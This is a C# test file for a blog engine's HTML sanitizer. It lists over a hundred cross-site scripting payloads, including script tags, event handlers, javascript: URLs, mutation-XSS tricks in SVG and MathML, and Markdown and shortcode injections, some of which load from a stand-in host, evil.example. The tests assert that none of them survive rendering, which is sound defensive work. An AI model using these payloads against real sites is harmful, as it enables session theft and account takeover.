using System.Net;
using AngleSharp.Dom;
using AngleSharp.Html.Dom;
using Blobpress.Site.Html.Formulas;
using Blobpress.Site.Posts;

namespace Blobpress.Site.Tests.Html;

public class CrossSiteScriptingTests
{
    private static readonly string[] Forbidden =
    [
        "script", "style", "svg", "object", "embed", "applet", "form", "base", "link", "meta", "template", "noscript", "frame",
        "frameset", "textarea", "select", "button", "xmp", "plaintext", "title", "dialog", "portal", "foreignobject", "animate", "set",
    ];

    private static readonly string[] Schemes = ["http", "https", "mailto", "tel"];

    public static TheoryData<string> Vectors { get; } =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/x>alert(1)</script\n>",
        "<<script>alert(1)//<</script>",
        "<script>alert(1)",
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=\"alert(1)\"//",
        "<img/src=\"x\"/onerror=alert(1)>",
        "<img src=`javascript:alert(1)`>",
        "<img src=\"javascript:alert(1)\">",
        "<img src=\"jav&#x09;ascript:alert(1)\">",
        "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<img alt='\"><script>alert(1)</script>' src=x>",
        "<img title='--><img src=x onerror=alert(1)>' src=x>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<img src='data:image/png,\" onerror=alert(1) x=\"'>",
        "<img data-src='x\" onerror=\"alert(1)'>",
        "<img srcset='javascript:alert(1) 2x, x\" onload=\"alert(1) 1x'>",
        "<img src=x id=body name=cookie onload=alert(1)>",
        "<picture><source srcset='x' onerror=alert(1)><img src=x onerror=alert(1)></picture>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"java\0script:alert(1)\">x</a>",
        "<a href=\"\u0001javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"https://cors.zfour.workers.dev/?javascript:alert(1)\">x</a>",
        "<a href=\"https://cors.zfour.workers.dev/?data:image/svg+xml,x\">x</a>",
        "<a href=\"blob:https://a.example/x\">x</a>",
        "<a href=\"//javascript:alert(1)\">x</a>",
        "<a href=x onmouseover=alert(1) target=_blank ping=https://evil.example/>x</a>",
        "<a href='x' style='position:fixed;inset:0;background:url(javascript:alert(1))'>x</a>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<div style=\"background-image:url('https://evil.example/x')\">x</div>",
        "<p style=\"text-align:center;background:url(x)\">x</p>",
        "<p style=\"text-align:center&quot; onclick=&quot;alert(1)\">x</p>",
        "<p align='center\" onclick=\"alert(1)'>x</p>",
        "<style>@import '//evil.example/x.css';</style>",
        "<style><img src=\"</style><img src=x onerror=alert(1)>\"></style>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<body onload=alert(1)>",
        "<html onmouseover=alert(1) manifest=x>",
        "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\" src=https://www.youtube.com/embed/x></iframe>",
        "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
        "<iframe src=https://www.youtube.com/x sandbox=allow-top-navigation></iframe>",
        "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<object type=text/html data=x><embed src=x></object>",
        "<embed src=javascript:alert(1)>",
        "<applet code=x></applet>",
        "<form action=javascript:alert(1)><input type=submit><button formaction=javascript:alert(1)>x</button></form>",
        "<form id=f><input name=attributes><input type=image src=x onerror=alert(1)></form>",
        "<input type=checkbox onfocus=alert(1) autofocus>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<video src=x onerror=alert(1) poster=javascript:alert(1)></video>",
        "<video><source onerror=alert(1) src=x.mp4></video>",
        "<audio src=\"javascript:alert(1)\" onloadstart=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<keygen autofocus onfocus=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>",
        "<svg><use href=\"data:image/svg+xml,x#y\"></use></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><p><style><!--</style><img src=1 onerror=alert(1)>--></style>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<math href=\"javascript:alert(1)\">x</math>",
        "$\\href{javascript:alert(1)}{x}$ $\\text{<img src=x onerror=alert(1)>}$ $$\\class{a}{x}\\style{color:red}{y}$$ $\\htmlId{main}{x}$",
        "<span class=math data-open=\"$\">\\includegraphics{https://a.example/x.png}\\color{red;x}{y}</span>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><annotation-xml encoding=\"text/html\"><style></annotation-xml><img src=x onerror=alert(1)>",
        "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style><img src='#' onerror='alert(1)'>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
        "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<plaintext><script>alert(1)</script>",
        "<template><script>alert(1)</script></template>",
        "<select><template><img src=x onerror=alert(1)></template></select>",
        "<select><script>alert(1)</script><iframe></select>",
        "<!--><script>alert(1)</script>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><?php echo '<script>alert(1)</script>' ?>",
        "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
        "<table><tr><td><a><table><a href=javascript:alert(1)>x</table>",
        "<p><marquee><p>x</p></marquee></p>",
        "<a href=x><marquee><a href=javascript:alert(1)>x</a></marquee></a>",
        "<b><marquee><p onclick=alert(1)>x</b></marquee>",
        "<x onclick=alert(1)>x</x>",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "<img src=x:x onerror\u000c=alert(1)>",
        "<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>",
        "<q cite=javascript:alert(1)>x</q><blockquote cite=data:text/html,x>x</blockquote>",
        "<span class=\"missing\" role=img onclick=alert(1) style=\"position:fixed\">x</span>",
        "<div id=main class=\"site-header\">x</div>",
        "{% youtube x\"onload=\"alert(1) %}",
        "{{< figure src=\"x\" title=\"<script>alert(1)</script>\" link=\"javascript:alert(1)\" >}}",
        "{% asset_img x.png \"'\"><script>alert(1)</script>\" %}",
        "{% codeblock lang:\"><script>alert(1)</script> %}\n</code></pre><script>alert(1)</script>\n{% endcodeblock %}",
        "[x](javascript:alert(1))",
        "![x\" onerror=\"alert(1)](https://a.example/x.png \"y\\\" onerror=\\\"alert(1)\")",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n\n[x]",
        "```\"><script>alert(1)</script>\nx\n```",
        "$<img src=x onerror=alert(1)>$",
        "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    ];

    [Theory]
    [MemberData(nameof(Vectors))]
    public void Nothing_that_runs_comes_through(string vector)
    {
        foreach (var format in new[] { BodyFormat.Markdown, BodyFormat.Html })
            AssertHarmless(Example.Render(Example.Draft(vector, format)).Html);
    }

    [Fact]
    public void Nothing_that_runs_comes_through_where_vectors_meet()
    {
        var all = Vectors.Select(v => v.Data).ToList();
        foreach (var (first, second) in all.Zip(all.Skip(1).Concat(all.Take(1))))
            AssertHarmless(Example.Html($"<p>{first}<table><tr><td>{second}"));
    }

    /// <summary>What a browser makes of the HTML holds nothing that runs, loads or moves, and is written the same again.</summary>
    internal static void AssertHarmless(string html)
    {
        var document = Example.Parse(html);
        Assert.Empty(document.Head!.Children);
        Assert.Equal(Plain(html), Plain(document.Body!.InnerHtml));
        foreach (var element in document.Body.QuerySelectorAll("*"))
        {
            if (element.NamespaceUri == NamespaceNames.MathMlUri)
            {
                Assert.True(MathMl.Elements.Contains(element.LocalName), element.LocalName);
                Assert.All(element.Attributes, a => Assert.DoesNotContain(a.Name, new[] { "href", "style", "id", "xlink:href" }));
                continue;
            }

            Assert.Equal(NamespaceNames.HtmlUri, element.NamespaceUri);
            Assert.NotEqual(NamespaceNames.MathMlUri, element.ParentElement!.NamespaceUri);
            Assert.DoesNotContain(element.LocalName, Forbidden);
            Assert.All(element.Attributes, a => AssertHarmless(element, a));
        }
    }

    private static void AssertHarmless(IElement element, IAttr attribute)
    {
        Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), attribute.Name);
        Assert.DoesNotContain(attribute.Name, new[] { "srcdoc", "formaction", "ping", "target", "background", "name", "action", "is" });
        if (attribute.Name == "style")
            Assert.Matches(@"^(text-align: (left|right|center|start|end)|aspect-ratio:\d+/\d+(;max-width:\d+px)?|background:#[0-9a-f]{6})$", attribute.Value);
        if (attribute.Name is "href" or "src" or "cite" or "poster" && Uri.TryCreate(attribute.Value.Trim(), UriKind.Absolute, out var uri) && !attribute.Value.StartsWith('/'))
            Assert.True(Schemes.Contains(uri.Scheme) || (element is IHtmlImageElement && attribute.Value.StartsWith("data:image/", StringComparison.Ordinal)), attribute.Value);
        if (element is IHtmlInlineFrameElement && attribute.Name == "sandbox")
            Assert.DoesNotContain("top", attribute.Value);
    }

    // The same tree can be written in two ways: references decoded or not, an empty value given or not.
    private static string Plain(string html) => WebUtility.HtmlDecode(
        html.Replace("=\"\"", "", StringComparison.Ordinal).Replace("<pre>\n", "<pre>", StringComparison.Ordinal));
}
